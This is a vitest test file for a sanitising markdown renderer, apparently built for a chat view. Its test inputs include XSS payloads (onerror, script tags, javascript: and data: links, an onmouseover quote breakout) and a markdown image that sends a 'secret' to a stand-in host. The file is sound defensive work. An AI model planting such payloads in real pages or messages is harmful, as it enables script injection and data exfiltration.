// @vitest-environment jsdom
import { expect, test } from 'vitest'
import { blocks } from './blocks'

function html(source: string): string {
  const host = document.createElement('div')
  for (const block of blocks(source)) host.append(block.node.cloneNode(true))
  return host.innerHTML
}

test('raw HTML is shown as text', () => {
  const shown = html('<img src=x onerror=alert(1)> <script>alert(1)</script>\n\n<style>body{display:none}</style>')
  expect(shown).not.toMatch(/<(img|script|style)/)
  expect(shown).toContain('&lt;script&gt;')
})

test('images become links, so that looking at a message fetches nothing', () => {
  const shown = html('![leak](https://elsewhere.example/?q=secret)')
  expect(shown).not.toContain('<img')
  expect(shown).toContain('[image: leak]')
})

test.each(['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,x', 'vbscript:x', ' javascript:alert(1)'])(
  'a link to %s loses its target',
  (target) => {
    expect(html(`[click](<${target}>)`)).not.toContain('href')
  },
)

test('links open elsewhere and tell nothing about this page', () => {
  const shown = html('[docs](https://docs.example/)')
  expect(shown).toContain('target="_blank"')
  expect(shown).toContain('noopener noreferrer')
})

test('a quote in an image address cannot break out of the attribute', () => {
  const shown = html('![x](https://e.example/"onmouseover="alert(1))')
  expect(shown).not.toMatch(/<a[^>]*\sonmouseover/)
})

test('no style, class or id survives', () => {
  expect(html('```python\nx = 1\n```')).not.toMatch(/class=|style=|id=/)
})

test('earlier blocks keep their identity while later ones are written', () => {
  const before = blocks('para one\n\npara tw')
  const after = blocks('para one\n\npara two', before)
  expect(after[0]).toBe(before[0])
  expect(after[1]).not.toBe(before[1])
})

test('tables, lists and code are rendered', () => {
  const shown = html('| a | b |\n|---|---|\n| 1 | 2 |\n\n1. x\n\n`code`')
  expect(shown).toContain('<td>2</td>')
  expect(shown).toContain('<ol>')
  expect(shown).toContain('<code>code</code>')
})

test('tildes of paths and prompts stay, and two of them strike out', () => {
  expect(html('alice@wn1:~# cp ~/a,~/b')).toContain('alice@wn1:~# cp ~/a,~/b')
  expect(html('~~gone~~')).toContain('<del>gone</del>')
})

test('a block of prose is marked, so that its lines are broken, and stays text', () => {
  expect(html('```text\n<b>a long line</b>\n```')).toContain(
    '<pre data-prose="" tabindex="0"><code>&lt;b&gt;a long line',
  )
  expect(html('```\ncode\n```')).not.toContain('data-prose')
})
